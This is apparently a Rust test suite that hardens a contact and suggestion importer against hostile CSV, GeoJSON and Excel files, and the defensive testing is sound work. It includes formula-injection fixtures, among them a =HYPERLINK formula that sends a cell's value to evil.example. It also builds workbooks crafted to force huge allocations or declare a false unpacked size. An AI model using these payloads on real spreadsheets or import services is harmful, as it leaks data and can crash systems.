//! Hostile files at import (SPEC §2): formulas, control characters and
//! overlong text, dates out of order or of absurd years, invalid geometry,
//! and workbooks whose declared extent is far larger than their cells.

#[path = "fixtures/io/helpers.rs"]
mod helpers;

use helpers::*;
use lianluo::i18n::Lang;
use std::path::{Path, PathBuf};

fn errors_with(dir: &Path, name: &str, content: impl AsRef<[u8]>, lang: Lang) -> (String, Vec<String>) {
    let mut files = base_files(dir);
    let f: PathBuf = write(dir, name, content);
    files.push(f.clone());
    (f.display().to_string(), import_errors(&files, lang))
}

const CONTACTS: &str = "code,name,role,phone,cell_code,deputy_code,active\n";

// ---- the one text check (H6, M4, M5) ----

#[test]
fn text_a_spreadsheet_would_run_is_refused_at_its_line_and_column() {
    let tmp = tempfile::tempdir().unwrap();
    let rows = "C1,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点我\"\")\",cadre,,C1,,\n\
                C2,+SUM(1),other,@SUM(1),C1,,\n\
                C3,-2,other,,C1,,\n\
                C4,\" @x\",other,,C1,,\n\
                C5,张三,other,+86 138 1234 5678,C1,,\n\
                C6,李四,other,=1+1,C1,,\n";
    let (f, errors) = errors_with(tmp.path(), "contacts.csv", format!("{CONTACTS}{rows}"), Lang::En);
    let formula = "begins with =, +, -, @, a tab or a carriage return: it would run as a formula when opened in Excel/WPS (a phone may begin with + and a digit)";
    assert_eq!(
        errors,
        vec![
            format!("{f}:2: name: {formula}"),
            format!("{f}:3: name: {formula}"),
            format!("{f}:3: phone: {formula}"),
            format!("{f}:4: name: {formula}"),
            format!("{f}:5: name: {formula}"),
            format!("{f}:7: phone: {formula}"),
        ]
    );
    let (f, errors) = errors_with(
        tmp.path(),
        "联络员.csv",
        format!("{CONTACTS}C1,=x,other,,C1,,\n"),
        Lang::Zh,
    );
    assert_eq!(errors.len(), 1);
    assert!(
        errors[0].starts_with(&format!(
            "{f}:2: name: 以 =、+、-、@、制表符或回车开头：在 Excel/WPS 中打开时会被当作公式执行"
        )),
        "{errors:#?}"
    );
}

#[test]
fn control_characters_and_overlong_text_are_refused_not_kept() {
    let tmp = tempfile::tempdir().unwrap();
    let long = "a".repeat(32_768);
    let rows = format!(
        "C1,王\u{7}五,other,,C1,,\nC2,赵\u{202e}六,other,,C1,,\nC3,{long},other,,C1,,\nC4,\"两\n行\",other,,C1,,\n"
    );
    let (f, errors) = errors_with(tmp.path(), "contacts.csv", format!("{CONTACTS}{rows}"), Lang::En);
    assert_eq!(
        errors,
        vec![
            format!("{f}:2: name: holds a control character (a bell, an escape, a bidi control …): not stored"),
            format!("{f}:3: name: holds a control character (a bell, an escape, a bidi control …): not stored"),
            format!("{f}:4: name: longer than 32,767 characters (the most a spreadsheet cell holds)"),
        ]
    );
    let (_, errors) = errors_with(
        tmp.path(),
        "contacts.csv",
        format!("{CONTACTS}C3,{long},other,,C1,,\n"),
        Lang::Zh,
    );
    assert!(
        errors[0].ends_with("name: 超过 32767 个字符（表格单元格的上限）"),
        "{errors:#?}"
    );
}

#[test]
fn the_check_guards_geojson_properties_too() {
    let tmp = tempfile::tempdir().unwrap();
    let cells = r#"{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"code":"G9","name":"@cmd","area_code":"V1"},"geometry":null}]}"#;
    let (f, errors) = errors_with(tmp.path(), "cells.geojson", cells, Lang::En);
    assert_eq!(errors.len(), 1, "{errors:#?}");
    assert!(
        errors[0].starts_with(&format!("{f}: feature 1: name: begins with =")),
        "{errors:#?}"
    );
}

// ---- suggestion dates (M12) ----

const SUGGESTIONS: &str = "code,cell_code,title,source,raised_by,category,received_on,handling_unit,assigned_on,due_on,status,replied_on,satisfaction,closed_on\n";

#[test]
fn suggestion_dates_out_of_order_are_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let rows = "S1,C1,路灯,reception,,general,2024-03-15,住建局,2024-03-01,2024-04-30,assigned,,,\n\
                S2,C1,路灯,reception,,general,2024-03-15,住建局,2024-03-16,2024-03-10,assigned,,,\n\
                S3,C1,路灯,reception,,general,2024-03-15,住建局,2024-03-16,2024-04-30,replied,2024-03-16,,\n\
                S4,C1,路灯,reception,,general,2024-03-15,住建局,2024-03-16,2024-04-30,closed,2024-04-01,satisfied,2024-03-20\n\
                S5,C1,路灯,reception,,general,2024-03-15,住建局,2024-03-16,2024-04-30,closed,2024-04-01,satisfied,2024-04-01\n";
    let (f, errors) = errors_with(tmp.path(), "suggestions.csv", format!("{SUGGESTIONS}{rows}"), Lang::En);
    assert_eq!(
        errors,
        vec![
            format!("{f}:2: assigned_on: assigned_on 2024-03-01 is before received_on 2024-03-15: dates out of order"),
            format!("{f}:3: due_on: due_on 2024-03-10 is before assigned_on 2024-03-16: dates out of order"),
            format!("{f}:5: closed_on: closed_on 2024-03-20 is before replied_on 2024-04-01: dates out of order"),
        ]
    );
    let (_, errors) = errors_with(
        tmp.path(),
        "suggestions.csv",
        format!(
            "{SUGGESTIONS}{}",
            "S1,C1,路灯,reception,,general,2024-03-15,住建局,2024-03-01,2024-04-30,assigned,,,\n"
        ),
        Lang::Zh,
    );
    assert!(
        errors[0].ends_with("assigned_on: assigned_on 2024-03-01 早于 received_on 2024-03-15：日期先后不可能"),
        "{errors:#?}"
    );
}

#[test]
fn a_date_of_an_absurd_year_is_a_bad_date() {
    let tmp = tempfile::tempdir().unwrap();
    let rows = "S1,C1,路灯,reception,,general,0000-01-01,,,,received,,,\nS2,C1,路灯,reception,,general,9999/12/31,,,,received,,,\n";
    let (f, errors) = errors_with(tmp.path(), "suggestions.csv", format!("{SUGGESTIONS}{rows}"), Lang::En);
    assert_eq!(
        errors,
        vec![
            format!("{f}:2: received_on: invalid date \"0000-01-01\" (e.g. 2024-08-21, 2024/8/21, 2024年8月21日; years 1900–2200)"),
            format!("{f}:3: received_on: invalid date \"9999/12/31\" (e.g. 2024-08-21, 2024/8/21, 2024年8月21日; years 1900–2200)"),
        ]
    );
}

// ---- workbooks read by their cells (H1) ----

use std::io::Write as _;

const P: &str = "http://schemas.openxmlformats.org/";

/// A workbook of one sheet whose `<sheetData>` is `rows`, written here
/// part by part (as the hardening review's `wide.py` did).
fn workbook(rows: &str) -> Vec<u8> {
    let t = format!("{P}officeDocument/2006/relationships");
    let parts = [
        (
            "[Content_Types].xml",
            format!(
                r#"<Types xmlns="{P}package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#
            ),
        ),
        (
            "_rels/.rels",
            format!(
                r#"<Relationships xmlns="{P}package/2006/relationships"><Relationship Id="r1" Type="{t}/officeDocument" Target="xl/workbook.xml"/></Relationships>"#
            ),
        ),
        (
            "xl/workbook.xml",
            format!(
                r#"<workbook xmlns="{P}spreadsheetml/2006/main" xmlns:r="{t}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>"#
            ),
        ),
        (
            "xl/_rels/workbook.xml.rels",
            format!(
                r#"<Relationships xmlns="{P}package/2006/relationships"><Relationship Id="r1" Type="{t}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#
            ),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!(r#"<worksheet xmlns="{P}spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>"#),
        ),
    ];
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (name, text) in parts {
        zip.start_file(name, options).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn c(at: &str, v: &str) -> String {
    format!(r#"<c r="{at}" t="inlineStr"><is><t>{v}</t></is></c>"#)
}

fn contacts_header() -> String {
    let names = ["code", "name", "role", "phone", "cell_code", "deputy_code", "active"];
    let cells: String = names
        .iter()
        .zip('A'..)
        .map(|(n, col)| c(&format!("{col}1"), n))
        .collect();
    format!(r#"<row r="1">{cells}</row>"#)
}

fn contact_row(r: u32, code: &str) -> String {
    format!(
        r#"<row r="{r}">{}{}{}</row>"#,
        c(&format!("A{r}"), code),
        c(&format!("B{r}"), "张三"),
        c(&format!("E{r}"), "C1")
    )
}

#[test]
fn a_workbook_with_one_far_cell_is_an_error_not_an_abort() {
    let tmp = tempfile::tempdir().unwrap();
    let rows = format!(
        r#"{}<row r="1048576">{}</row>"#,
        contacts_header(),
        c("XFD1048576", "x")
    );
    let book = workbook(&rows);
    assert!(book.len() < 4096, "{} bytes", book.len());
    let (f, errors) = errors_with(tmp.path(), "contacts.xlsx", &book, Lang::En);
    assert_eq!(
        errors,
        vec![format!("{f}:1048576: the row has 16384 fields, the header has 7")]
    );
    // Through the command: exit 65, no crash (this aborted with a 549 GB allocation).
    let db = tmp.path().join("c.db");
    let run = |args: &[&str]| {
        assert_cmd::Command::cargo_bin("lianluo")
            .unwrap()
            .arg("--db")
            .arg(&db)
            .args(["--lang", "en"])
            .args(args)
            .env("LIANLUO_OPERATOR", "tester")
            .output()
            .unwrap()
    };
    assert!(run(&["init", "--empty"]).status.success());
    let file = tmp.path().join("wide").join("contacts.xlsx");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(&file, &book).unwrap();
    let out = run(&["import", file.to_str().unwrap(), "--dry-run"]);
    assert_eq!(out.status.code(), Some(65), "{}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn a_sparse_workbook_imports_with_its_sheet_rows_as_lines() {
    let tmp = tempfile::tempdir().unwrap();
    // Rows 1, 5 and 100000, and a far cell's empty value in between.
    let rows = format!(
        r#"{}{}<row r="70000"><c r="ZZ70000"/></row>{}"#,
        contacts_header(),
        contact_row(5, "L1"),
        contact_row(100_000, "L2")
    );
    let f = write(tmp.path(), "contacts.xlsx", workbook(&rows));
    let mut files = base_files(tmp.path());
    files.push(f.clone());
    let set = import(&files).unwrap();
    let codes: Vec<&str> = set.contacts.as_ref().unwrap().iter().map(|c| c.code.as_str()).collect();
    assert_eq!(codes, ["L1", "L2"]);
    // A bad value far down is named at its sheet row.
    let rows = format!(
        "{}{}{}",
        contacts_header(),
        contact_row(5, "L1"),
        contact_row(100_000, "=L2")
    );
    let (f, errors) = errors_with(tmp.path(), "contacts.xlsx", workbook(&rows), Lang::En);
    assert_eq!(errors.len(), 1, "{errors:#?}");
    assert!(
        errors[0].starts_with(&format!("{f}:100000: code: begins with =")),
        "{errors:#?}"
    );
}

#[test]
fn a_workbook_declaring_more_than_512_mib_unpacked_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let mut book = workbook(&contacts_header());
    // Make the sheet's central-directory entry declare 768 MiB unpacked.
    let sig = [0x50, 0x4b, 0x01, 0x02];
    let name = b"xl/worksheets/sheet1.xml";
    let at = (0..book.len() - 46)
        .find(|&i| book[i..i + 4] == sig && book[i + 46..].starts_with(name))
        .expect("central directory entry");
    book[at + 24..at + 28].copy_from_slice(&0x3000_0000u32.to_le_bytes());
    let (f, errors) = errors_with(tmp.path(), "contacts.xlsx", &book, Lang::En);
    assert_eq!(
        errors,
        vec![format!(
            "{f}: the file is too large (limit 512 MiB); split it into several files"
        )]
    );
}

#[test]
fn a_sheet_with_rows_past_the_last_a_spreadsheet_holds_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let rows = format!("{}{}", contacts_header(), contact_row(1_048_577, "L1"));
    let (f, errors) = errors_with(tmp.path(), "contacts.xlsx", workbook(&rows), Lang::En);
    assert_eq!(
        errors,
        vec![format!(
            "{f}:1048577: the sheet holds more than 1048576 rows (the most a spreadsheet holds)"
        )]
    );
}

// ---- cell geometry the spatial rules can work with (H2, M15) ----

fn feature(code: &str, rings: &str) -> String {
    format!(
        r#"{{"type":"Feature","properties":{{"code":"{code}","name":"网格","area_code":"V1"}},"geometry":{{"type":"Polygon","coordinates":{rings}}}}}"#
    )
}

#[test]
fn crossing_rings_holes_outside_and_zero_area_cells_are_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let square = "[[121.6,37.38],[121.61,37.38],[121.61,37.39],[121.6,37.39],[121.6,37.38]]";
    let features = [
        feature("G1", &format!("[{square}]")),
        feature(
            "G2",
            "[[[121.6,37.38],[121.61,37.39],[121.61,37.38],[121.6,37.39],[121.6,37.38]]]",
        ),
        feature(
            "G3",
            &format!("[{square},[[120,36],[123,36],[123,39],[120,39],[120,36]]]"),
        ),
        feature("G4", "[[[121.6,37.38],[121.6,37.38],[121.6,37.38],[121.6,37.38]]]"),
        feature("G5", "[[[121.6,37.38],[121.61,37.38],[121.62,37.38],[121.6,37.38]]]"),
    ];
    let text = format!(r#"{{"type":"FeatureCollection","features":[{}]}}"#, features.join(","));
    let (f, errors) = errors_with(tmp.path(), "cells.geojson", &text, Lang::En);
    assert_eq!(
        errors,
        vec![
            format!("{f}: feature 2: geometry: invalid geometry: ring 1 crosses itself"),
            format!("{f}: feature 3: geometry: invalid geometry: ring 2 (a hole) is not inside its shell"),
            format!("{f}: feature 4: geometry: invalid geometry: ring 1 has no area (its points are identical or on one line)"),
            format!("{f}: feature 5: geometry: invalid geometry: ring 1 has no area (its points are identical or on one line)"),
        ]
    );
    let (_, errors) = errors_with(tmp.path(), "网格.geojson", &text, Lang::Zh);
    assert!(
        errors[0].ends_with("feature 2: geometry: 几何图形无效：第 1 个环自相交"),
        "{errors:#?}"
    );
    assert!(
        errors[1].ends_with("几何图形无效：第 2 个环（内洞）不在外环之内"),
        "{errors:#?}"
    );
    assert!(
        errors[2].ends_with("几何图形无效：第 1 个环面积为零（各点相同或在一条直线上）"),
        "{errors:#?}"
    );
}

#[test]
fn a_boundary_that_crosses_itself_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let text = r#"{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"code":"X","name":"牟平区"},"geometry":{"type":"Polygon","coordinates":[[[121.6,37.38],[121.61,37.39],[121.61,37.38],[121.6,37.39],[121.6,37.38]]]}}]}"#;
    let (f, errors) = errors_with(tmp.path(), "boundary.geojson", text, Lang::En);
    assert_eq!(
        errors,
        vec![format!(
            "{f}: feature 1: geometry: invalid geometry: ring 1 crosses itself"
        )]
    );
}
